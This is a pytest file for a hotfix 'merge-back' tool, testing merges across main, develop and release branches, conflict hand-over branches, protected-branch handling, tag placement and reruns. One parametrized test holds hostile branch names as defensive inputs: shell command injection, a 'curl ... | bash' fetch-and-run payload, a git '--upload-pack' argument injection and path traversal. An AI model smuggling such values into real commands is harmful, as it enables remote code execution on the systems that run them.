"""merge-back on real git with a bare origin and no GitHub: merges, conflicts, protection, reruns, the tag."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import read_outputs
from tests.gitrepos import clone, git
from tests.merge_back.helpers import contains, merge_back, parents, project, protect, unprotect
from tests.notify.receiver import Answer, Receiver


def _refs(origin: Path) -> str:
    return git(origin, "for-each-ref", "--format=%(refname) %(objectname)")


def test_clean_merge_back_tags_merges_everywhere_and_deletes_the_branch(tmp_path: Path, gha: dict[str, Path]) -> None:
    origin, work, branch = project(tmp_path)
    head = git(origin, "rev-parse", branch)
    result = merge_back(work, "--branch", branch)
    assert result.exit_code == 0, result.output
    for target in ("main", "develop", "release/1.1"):
        merge = git(origin, "rev-parse", target)
        assert parents(origin, target)[1] == head  # --no-ff: a merge commit whose second parent is the hotfix
        assert git(origin, "log", "-1", "--format=%s", merge) == f"Merge hotfix v1.0.1 into {target}"
    assert git(origin, "cat-file", "-t", "v1.0.1") == "tag"  # annotated
    assert git(origin, "rev-parse", "v1.0.1^{commit}") == git(origin, "rev-parse", "main")
    assert git(origin, "branch", "--list", branch) == ""  # deleted once every branch had it
    outputs = read_outputs(gha["output"])
    assert (outputs["complete"], outputs["branch-deleted"], outputs["tag"]) == ("true", "true", "v1.0.1")
    assert json.loads(outputs["merged"]) == ["main", "develop", "release/1.1"]
    summary = gha["summary"].read_text()
    assert "| `release/1.1` | merged |" in summary

    before = _refs(origin)
    again = merge_back(work, "--branch", branch)
    assert again.exit_code == 0 and "merge-back finished earlier" in again.output
    assert _refs(origin) == before  # a rerun changes nothing


def test_conflict_on_develop_without_github_fails_with_the_files_and_steps_then_a_rerun_finishes(
    tmp_path: Path,
) -> None:
    origin, work, branch = project(tmp_path, develop_change={"src/app.py": "def handler():\n    return 'develop'\n"})
    develop_before = git(origin, "rev-parse", "develop")
    result = merge_back(work, "--branch", branch)
    assert result.exit_code == 1, result.output
    assert "conflicts in src/app.py" in result.output
    assert "git merge --no-ff origin/develop" in result.output  # the steps to finish
    assert git(origin, "rev-parse", "develop") == develop_before  # develop untouched, nothing forced
    assert contains(origin, branch, "main")  # production got the hotfix before develop conflicted
    assert contains(origin, branch, "release/1.1")  # and a conflict on develop does not stop the release branch
    handover = "merge-back/1.0.1-into-develop"
    assert git(origin, "rev-parse", handover) == git(origin, "rev-parse", branch)
    assert git(origin, "rev-parse", "--verify", "-q", f"refs/heads/{branch}")  # kept: develop lacks it
    tag = git(origin, "rev-parse", "v1.0.1^{commit}")
    assert tag == git(origin, "rev-parse", "main")

    # A person resolves the conflict on the hand-over branch and merges it (a merge commit, as the steps say).
    person = clone(origin, tmp_path / "person", branch=handover)
    person.git("merge", "--no-ff", "-q", "origin/develop", check=False)
    person.write({"src/app.py": "def handler():\n    return 'fixed and develop'\n"})
    person.git("add", "src/app.py")
    person.git("commit", "-q", "--no-edit")
    person.git("push", "-q", "origin", handover)
    person.git("switch", "-q", "develop")
    person.git("merge", "--no-ff", "-q", f"origin/{handover}", "-m", "Merge pull request #1")
    person.git("push", "-q", "origin", "develop")

    rerun = merge_back(work, "--branch", branch)
    assert rerun.exit_code == 0, rerun.output
    assert git(origin, "rev-parse", "v1.0.1^{commit}") == tag  # the same tag on the same commit
    assert git(origin, "branch", "--list", branch) == ""
    assert contains(origin, git(work.path, "rev-parse", branch), "develop")


def test_a_protected_branch_gets_a_ready_merge_on_a_hand_over_branch_and_a_rerun_continues(tmp_path: Path) -> None:
    origin, work, branch = project(tmp_path)
    protect(origin, "release/1.1")
    release_before = git(origin, "rev-parse", "release/1.1")
    first = merge_back(work, "--branch", branch)
    assert first.exit_code == 1, first.output
    assert "GH006: Protected branch update failed" in first.output
    assert git(origin, "rev-parse", "release/1.1") == release_before
    handover = "merge-back/1.0.1-into-release/1.1"
    assert parents(origin, handover) == [release_before, git(origin, "rev-parse", branch)]  # the ready merge commit
    assert contains(origin, branch, "main") and contains(origin, branch, "develop")

    unprotect(origin)
    rerun = merge_back(work, "--branch", branch)
    assert rerun.exit_code == 0, rerun.output
    assert "plan: main: contains" in rerun.output and "plan: develop: contains" in rerun.output
    assert "plan: release/1.1: merge" in rerun.output
    assert contains(origin, "v1.0.1", "main")
    assert git(origin, "branch", "--list", branch) == ""


def test_a_tag_on_another_commit_stops_before_anything_is_written(tmp_path: Path) -> None:
    origin, work, branch = project(tmp_path)
    work.git("tag", "-a", "v1.0.1", "-m", "wrong", "main")
    work.git("push", "-q", "origin", "v1.0.1")
    before = _refs(origin)
    result = merge_back(work, "--branch", branch)
    assert result.exit_code == 1
    assert "tag v1.0.1 already exists" in result.output and "does not contain the hotfix" in result.output
    assert _refs(origin) == before


def test_a_tag_that_differs_from_the_production_merge_is_refused(tmp_path: Path) -> None:
    origin, work, branch = project(tmp_path)
    work.git("switch", "-q", "main")
    work.git("merge", "-q", "--no-ff", branch, "-m", "merged by hand")
    work.commit({"README.md": "later\n"}, "docs: later")
    work.git("tag", "-a", "v1.0.1", "-m", "on the wrong commit")  # on the later commit, not the merge
    work.git("push", "-q", "origin", "main", "v1.0.1")
    result = merge_back(work, "--branch", branch)
    assert result.exit_code == 1
    assert "a release tag is never moved" in result.output


def test_production_merged_by_hand_is_tagged_at_the_merge_not_at_the_head(tmp_path: Path) -> None:
    origin, work, branch = project(tmp_path)
    work.git("switch", "-q", "main")
    work.git("merge", "-q", "--no-ff", branch, "-m", "Merge pull request #7")
    merge = work.head()
    work.commit({"README.md": "later\n"}, "docs: later")
    work.git("push", "-q", "origin", "main")
    result = merge_back(work, "--branch", branch)
    assert result.exit_code == 0, result.output
    assert git(origin, "rev-parse", "v1.0.1^{commit}") == merge


@pytest.mark.parametrize(
    "name",
    [
        'zzz";echo${IFS}"hello";#',
        "hotfix/$({curl,-sSfL,x/y.sh}${IFS}|${IFS}bash)",
        "--upload-pack=evil",
        "hotfix/v1.0.1-../x",
    ],
)
def test_hostile_branch_names_are_refused_before_git_runs(tmp_path: Path, name: str) -> None:
    origin, work, _ = project(tmp_path)
    before = _refs(origin)
    result = merge_back(work, "--branch", name)
    assert result.exit_code == 2
    assert "--branch" in result.output
    assert _refs(origin) == before


def test_version_must_match_the_branch(tmp_path: Path) -> None:
    _, work, branch = project(tmp_path)
    result = merge_back(work, "--branch", branch, "--version", "1.0.2")
    assert result.exit_code == 2 and "differs from the branch's version 1.0.1" in result.output


def test_dry_run_writes_nothing(tmp_path: Path) -> None:
    origin, work, branch = project(tmp_path)
    before = _refs(origin)
    result = merge_back(work, "--branch", branch, "--dry-run")
    assert result.exit_code == 0
    assert "dry run: merge" in result.output
    assert _refs(origin) == before


def test_keep_branch_and_a_shallow_clone(tmp_path: Path) -> None:
    origin, _, branch = project(tmp_path)
    shallow = clone(origin, tmp_path / "shallow", branch=branch, depth=1)
    result = merge_back(shallow, "--branch", branch, "--keep-branch")
    assert result.exit_code == 0, result.output
    assert "whole history" in result.output
    assert git(origin, "rev-parse", "--verify", "-q", f"refs/heads/{branch}")
    assert "--keep-branch" in result.output


def test_skip_older_release_and_develop_rules_from_the_config(tmp_path: Path) -> None:
    origin, work, branch = project(tmp_path)
    work.git("push", "-q", "origin", "main:refs/heads/release/1.0")
    config = tmp_path / "hotfix.yml"
    config.write_text("merge_back:\n  targets: [releases, develop]\n  skip_develop_when_release_open: true\n")
    develop_before = git(origin, "rev-parse", "develop")
    result = merge_back(work, "--branch", branch, "--config", str(config))
    assert result.exit_code == 0, result.output
    assert "release/1.0: excluded - release 1.0.0 is not newer" in result.output
    assert "develop: excluded - a release branch is open" in result.output
    assert git(origin, "rev-parse", "develop") == develop_before
    assert contains(origin, git(work.path, "rev-parse", branch), "release/1.1")
    assert git(origin, "branch", "--list", branch) == ""  # excluded targets are not waited for


def test_one_notification_and_a_failed_one_is_only_a_warning(tmp_path: Path, receiver: Receiver) -> None:
    _, work, branch = project(tmp_path)
    receiver.script = [Answer(404, "no_service")]
    env = {"HOTFIX_SLACK_WEBHOOK_URL": receiver.url(), "GITHUB_ACTOR": "alice"}
    result = merge_back(work, "--branch", branch, env=env)
    assert result.exit_code == 0, result.output
    assert "notification: Slack answered HTTP 404" in result.output
    (message,) = receiver.received
    blocks = message.json["blocks"]
    assert blocks[0]["text"]["text"] == "🔀 Hotfix v1.0.1 merged back"
    assert "*Actor*\nalice" in [f["text"] for f in blocks[1]["fields"]]
